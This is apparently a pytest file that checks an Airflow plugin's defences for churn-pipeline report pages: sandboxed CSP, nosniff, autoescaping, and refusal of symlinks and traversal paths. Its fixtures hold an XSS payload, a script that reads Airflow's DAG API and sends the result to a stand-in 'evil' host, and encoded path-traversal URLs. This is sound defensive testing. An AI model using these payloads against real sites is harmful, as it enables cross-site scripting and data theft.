"""Nothing built from data becomes active content on the Airflow origin (plugins/churn_ui.py, issue 26 item 11).

Run files (the report, GX Data Docs) are served sandboxed and never sniffed; the plugin's own pages carry a
strict Content-Security-Policy that allows only their own inline code (by hash) and nothing from other hosts.
"""

from __future__ import annotations

import base64
import hashlib
import importlib.util
import json
import re

import pytest

from churn.db import ensure_schema
from tests.support import REPO_ROOT

HOSTILE = "<img src=x onerror=alert(1)>"
STEAL = "<script>fetch('/api/v2/dags').then(r => r.text()).then(t => new Image().src = '//evil/?' + t)</script>"
RUN_KEY = "2026-11-20"
EXTERNAL_ASSET = re.compile(r"<(?:script|link)\b[^>]*\b(?:src|href)\s*=\s*[\"']?(?:https?:)?//", re.I)


def _http_app(monkeypatch):
    """The plugin's FastAPI app with Airflow's access check and user stubbed (as in test_monitoring_churn_page)."""
    import airflow.api_fastapi.core_api.security as security

    monkeypatch.setattr(security, "requires_access_dag", lambda *a, **k: (lambda: None))
    spec = importlib.util.spec_from_file_location("churn_ui_security", REPO_ROOT / "plugins" / "churn_ui.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    app = module._build_app()

    class User:
        def get_name(self) -> str:
            return "alice"

    app.dependency_overrides[security.get_user] = lambda: User()
    return module, app


def _directives(policy: str) -> dict[str, list[str]]:
    """A CSP header as {directive: [tokens]} (what a browser parses)."""
    out: dict[str, list[str]] = {}
    for part in policy.split(";"):
        words = part.split()
        if words:
            out.setdefault(words[0].lower(), words[1:])
    return out


def _assert_sandboxed(response) -> None:
    assert response.headers.get("x-content-type-options") == "nosniff", dict(response.headers)
    policy = _directives(response.headers.get("content-security-policy", ""))
    # A bare "sandbox": scripts, same-origin access, forms, popups and top navigation all off.
    assert policy.get("sandbox") == [], response.headers.get("content-security-policy")
    assert policy.get("script-src") == ["'none'"] and policy.get("object-src") == ["'none'"]
    for tokens in policy.values():  # no third-party host may be named for any resource
        assert not any(t.startswith(("http", "*")) or t == "https:" for t in tokens), policy


@pytest.fixture
def hostile_run(tmp_path, monkeypatch):
    """A run folder whose report and Data Docs carry a hostile category value and a script, as GX would write them."""
    monkeypatch.setenv("CHURN_STATE_DIR", str(tmp_path))
    run = tmp_path / "runs" / RUN_KEY
    docs = run / "data_docs" / "validations"
    docs.mkdir(parents=True)
    page = f"<html><body><table><tr><td>unexpected plan</td><td>{HOSTILE}</td></tr></table>{STEAL}</body></html>"
    (run / "report.html").write_text(f"<h1>Churn run {RUN_KEY}</h1>{page}")
    (run / "data_docs" / "index.html").write_text(page)
    (docs / "customers.html").write_text(page)
    (run / "data_docs" / "plot.svg").write_text(f'<svg xmlns="http://www.w3.org/2000/svg">{STEAL}</svg>')
    (run / "data_docs" / "evil.js").write_text("fetch('/api/v2/dags')")
    (run / "data_docs" / "evil.js.map").write_text("{}")
    return tmp_path


def test_run_files_are_served_sandboxed_and_never_sniffed(hostile_run, monkeypatch):
    from fastapi.testclient import TestClient

    _, app = _http_app(monkeypatch)
    client = TestClient(app)
    for url in (f"/runs/{RUN_KEY}/report", f"/runs/{RUN_KEY}/report.html", f"/runs/{RUN_KEY}/data_docs/index.html",
                f"/runs/{RUN_KEY}/data_docs/validations/customers.html", f"/runs/{RUN_KEY}/data_docs/plot.svg"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert HOSTILE in response.text or url.endswith(".svg")  # served as written: the header is what disarms it
        _assert_sandboxed(response)
    # A script file from a run folder is not served at all: the sandbox header does not bind a page that
    # loads it with <script src>, so data-built JavaScript never sits on this origin.
    for name in ("evil.js", "evil.js.map"):
        assert client.get(f"/runs/{RUN_KEY}/data_docs/{name}").status_code == 404, name
    # Every other answer of the plugin (errors included) is never sniffed either.
    missing = client.get(f"/runs/{RUN_KEY}/data_docs/nothing.html")
    assert missing.status_code == 404 and missing.headers.get("x-content-type-options") == "nosniff"


def test_run_file_refuses_symlinks_out_of_the_run_folder_and_odd_names(hostile_run, monkeypatch):
    from fastapi.testclient import TestClient

    module, app = _http_app(monkeypatch)
    runs = hostile_run / "runs"
    outside = hostile_run / "private"
    outside.mkdir()
    (outside / "secret.html").write_text("SECRET outside the run folders")
    (runs / RUN_KEY / "data_docs" / "link.html").symlink_to(outside / "secret.html")  # a file leaving the folder
    (runs / "2026-11-21").symlink_to(outside, target_is_directory=True)  # a whole run folder elsewhere
    inner = runs / RUN_KEY / "data_docs" / "same.html"
    inner.symlink_to(runs / RUN_KEY / "data_docs" / "index.html")  # inside the same run folder: fine
    assert module.run_file(RUN_KEY, "data_docs", "link.html") is None
    assert module.run_file("2026-11-21", "secret.html") is None
    assert module.run_file(RUN_KEY, "data_docs", "same.html") is not None
    assert module.run_file(RUN_KEY, "data_docs", "index\x00.html") is None
    client = TestClient(app, raise_server_exceptions=False)
    for url in (f"/runs/{RUN_KEY}/data_docs/link.html", "/runs/2026-11-21/secret.html",
                f"/runs/{RUN_KEY}/data_docs/index%00.html", f"/runs/{RUN_KEY}/%2E%2E/%2E%2E/private/secret.html"):
        response = client.get(url)
        assert response.status_code == 404 and "SECRET" not in response.text, url
        assert response.headers.get("x-content-type-options") == "nosniff", url


def _inline_hashes(html: str, tag: str) -> set[str]:
    bodies = re.findall(rf"<{tag}>(.*?)</{tag}>", html, flags=re.S)
    return {"'sha256-" + base64.b64encode(hashlib.sha256(b.encode()).digest()).decode() + "'" for b in bodies}


def _assert_strict_page(response) -> None:
    """A page of our own: strict CSP that admits exactly its own inline code, nothing external, never sniffed."""
    assert response.headers.get("x-content-type-options") == "nosniff"
    header = response.headers.get("content-security-policy", "")
    policy = _directives(header)
    assert "sandbox" not in policy  # our pages keep their (hash-pinned) script, e.g. the rollback confirmation
    assert policy.get("default-src") == ["'self'"], header
    assert policy.get("object-src") == ["'none'"] and policy.get("base-uri") == ["'none'"]
    assert policy.get("frame-ancestors") == ["'self'"] and policy.get("form-action") == ["'self'"]
    for directive in ("script-src", "style-src"):
        tokens = policy.get(directive, [])
        assert tokens and all(t.startswith("'sha256-") for t in tokens), header  # no 'self', 'unsafe-inline', host
    html = response.text
    assert _inline_hashes(html, "script") <= set(policy["script-src"]), header  # our own code still runs
    assert _inline_hashes(html, "style") <= set(policy["style-src"]), header
    assert not EXTERNAL_ASSET.search(html) and "<script src" not in html


def test_own_pages_carry_a_strict_policy_and_escape_values(pg_conn, fresh_pg_url, tmp_path, monkeypatch):
    from fastapi.testclient import TestClient

    from churn.monitoring import RunMetrics, record_run

    ensure_schema(pg_conn)
    with pg_conn.cursor() as cur:
        for version, status in (("2026-11-19-tpot-aaaaaa", "retired"), ("2026-11-20-tpot-bbbbbb", "champion")):
            cur.execute(
                """INSERT INTO churn.model_registry (version, run_key, model_name, status, reason, metrics, params,
                       signature, artifact_path, artifact_sha256, data_fingerprint, code_version)
                   VALUES (%s, %s, 'tpot', %s, %s, %s, '{}', '{}', '/x', 'sha', 'fp', 'test')""",
                (version, version[:10], status, HOSTILE, json.dumps({"roc_auc": 0.8})))
        cur.execute("INSERT INTO churn.model_champion (version, reason) VALUES ('2026-11-20-tpot-bbbbbb', %s)",
                    (STEAL,))
        cur.execute("INSERT INTO churn.pipeline_runs (run_key, airflow_run_id, status) VALUES (%s, %s, 'success')",
                    (RUN_KEY, HOSTILE))
    pg_conn.commit()
    record_run(pg_conn, RunMetrics(RUN_KEY, "2026-11-20-tpot-bbbbbb", False, 10, 0, 10, 10, {"score": 1.0},
                                   None, 0.01, None, f"/state/runs/{RUN_KEY}/report.html"))
    monkeypatch.setenv("CHURN_POSTGRES_URL", fresh_pg_url)
    monkeypatch.setenv("CHURN_STATE_DIR", str(tmp_path))
    _, app = _http_app(monkeypatch)
    client = TestClient(app, cookies={"_token": "jwt-of-alice"})

    overview = client.get("/", params={"msg": HOSTILE, "err": STEAL})
    assert overview.status_code == 200 and 'id="champion"' in overview.text
    confirm = client.get("/rollback/2026-11-19-tpot-aaaaaa")
    assert confirm.status_code == 200 and "confirm-rollback" in confirm.text and "<script>" in confirm.text
    error = client.get(f"/runs/{RUN_KEY}/{HOSTILE}.html")  # an error page that names a hostile path
    assert error.status_code == 404
    for response in (overview, confirm, error):
        _assert_strict_page(response)
        assert HOSTILE not in response.text and "<script>fetch" not in response.text  # autoescaped
    assert "&lt;img src=x onerror=alert(1)&gt;" in overview.text and "&lt;script&gt;fetch(" in overview.text
    assert "&lt;img src=x onerror=alert(1)&gt;" in error.text


def test_templates_and_report_load_nothing_from_other_hosts():
    from churn.templating import environment, render

    sources = sorted((REPO_ROOT / "include" / "churn" / "templates").glob("*.html"))
    sources.append(REPO_ROOT / "include" / "churn" / "report.py")
    assert len(sources) > 3
    for path in sources:
        assert not EXTERNAL_ASSET.search(path.read_text()), path
    assert environment().autoescape is True
    assert HOSTILE not in render("churn_message.html", title=HOSTILE, heading=HOSTILE, text=HOSTILE,
                                 css_class="note", element_id="message")
